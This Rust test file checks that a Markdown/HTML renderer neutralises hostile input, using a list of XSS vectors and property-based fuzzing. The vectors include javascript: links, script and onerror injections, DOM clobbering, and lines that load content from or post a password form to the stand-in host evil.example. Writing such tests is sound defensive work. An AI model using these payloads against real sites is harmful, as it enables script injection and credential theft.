//! Strangers' input: nothing runs, nothing panics.

use std::cell::RefCell;

use markup::{RenderOptions, Resolution, links, plain, render};
use proptest::prelude::*;

use crate::browser::check;
use crate::support::{OPTIONS, rendered};

/// Markdown and HTML that have run programs, moved readers or shadowed a page's own names elsewhere.
const VECTORS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    "[x](javascript://%0aalert(1))",
    "[x](//javascript:alert(1))",
    "[x](/\\evil.example)",
    "[x](https://a\" onmouseover=\"alert(1))",
    "[x](/y \"z\\\" onclick=\\\"alert(1)\")",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](/y)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "[[\"><script>alert(1)</script>]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "![[javascript:alert(1)]]",
    "<script>alert(1)</script>",
    "x <script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "x <img/src=x/onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<style>@import '//evil.example';</style>",
    "<div style=position:fixed;inset:0>x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<input type=image src=//evil.example onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><b title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<b id=location name=attributes>x</b>",
    "<a id=x name=body href=y>x</a>",
    "<img name=getElementById>",
    "<h2 id=t-titre>x</h2>\n\n# Titre",
    "# x {#body onclick=alert(1)}",
    "# <b id=y>x</b>",
    "[^\"><script>]: x\n\n[^\"><script>]",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<abbr title=\"&quot;><img src=x onerror=alert(1)>\">x</abbr>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<kbd lang='\"><script>alert(1)</script>'>x</kbd>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onclick=alert(1)\ny\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <td onclick=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "</p></div></section></body></html><script>alert(1)</script>",
    "<b>*x</b>* </em></a>",
    "\0<\0script>alert(1)</script>",
    "<\u{feff}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
];

#[test]
fn no_vector_gets_through() {
    for vector in VECTORS {
        check(&rendered(vector).html);
        check(&rendered(&format!("> - {vector}\n\nx {vector} y")).html);
    }
}

#[test]
fn a_resolver_that_is_fooled_does_no_harm() {
    for url in [
        "javascript:alert(1)",
        "\" onclick=\"alert(1)",
        "data:text/html,x",
    ] {
        for exists in [true, false] {
            let resolve = |target: &str| match exists {
                true => Resolution::Exists {
                    url: url.to_owned(),
                    title: format!("\"><script>{target}"),
                },
                false => Resolution::Missing {
                    url: url.to_owned(),
                },
            };
            let options = RenderOptions {
                resolve: &resolve,
                ..OPTIONS
            };
            check(&render("[[x]] [[x|y]] # [[x]]\n\n# [[x]]", &options).html);
        }
    }
}

#[test]
fn text_about_markup_stays_text() {
    assert_eq!(
        rendered("`<script>` s’écrit &lt;script&gt; ou \\<script>").html,
        "<p><code>&lt;script&gt;</code> s’écrit &lt;script&gt; ou &lt;script&gt;</p>\n"
    );
}

/// Pieces that mean something, in any order.
pub fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(VECTORS).prop_map(str::to_owned),
        proptest::sample::select(
            &[
                "\n",
                "\n\n",
                " ",
                "> ",
                "- ",
                "1. ",
                "# ",
                "| ",
                "|\n|---|\n",
                "[[",
                "]]",
                "[^1]",
                "\n\n[^1]: ",
                "*",
                "**",
                "~~",
                "`",
                "```\n",
                "<b>",
                "</b>",
                "<i title=\"",
                "<sup>",
                "</sup>",
                "<details>",
                "<summary>",
                "</details>",
                "\n: ",
                "- [ ] ",
                "![",
                "![[a]]",
                "\n\n![[a#b]]\n\n",
                "](",
                ")",
                "<",
                ">",
                "&",
                "\"",
                "\\",
                "> [!NOTE]\n> ",
                "<br>",
                "    ",
                "\t",
                "mot",
                "é",
                "\r\n",
                "\0",
                "<hr>",
            ][..]
        )
        .prop_map(str::to_owned),
        "\\PC{0,5}",
    ];
    proptest::collection::vec(piece, 0..25).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_soup_is_safe_and_balanced(text in soup()) {
        check(&rendered(&text).html);
    }

    #[test]
    fn any_text_is_safe_and_balanced(text in any::<String>()) {
        check(&rendered(&text).html);
    }

    #[test]
    fn the_outline_matches_the_page(text in soup()) {
        let rendered = rendered(&text);
        for heading in &rendered.outline {
            let id = format!("<h{} id=\"{}\">", heading.level, heading.id);
            prop_assert!(rendered.html.contains(&id));
        }
    }

    #[test]
    fn the_resolver_is_asked_about_every_link(text in soup()) {
        let asked = RefCell::new(Vec::new());
        let resolve = |target: &str| {
            if !asked.borrow().iter().any(|known| known == target) {
                asked.borrow_mut().push(target.to_owned());
            }
            Resolution::Missing { url: "/x".to_owned() }
        };
        let _ = render(&text, &RenderOptions { resolve: &resolve, ..OPTIONS });
        prop_assert_eq!(asked.into_inner(), links(&text));
    }

    #[test]
    fn plain_text_has_no_blank_line(text in soup()) {
        let plain = plain(&text);
        prop_assert!(!plain.text.contains("\n\n"));
        prop_assert_eq!(plain.text.trim(), &plain.text);
    }
}
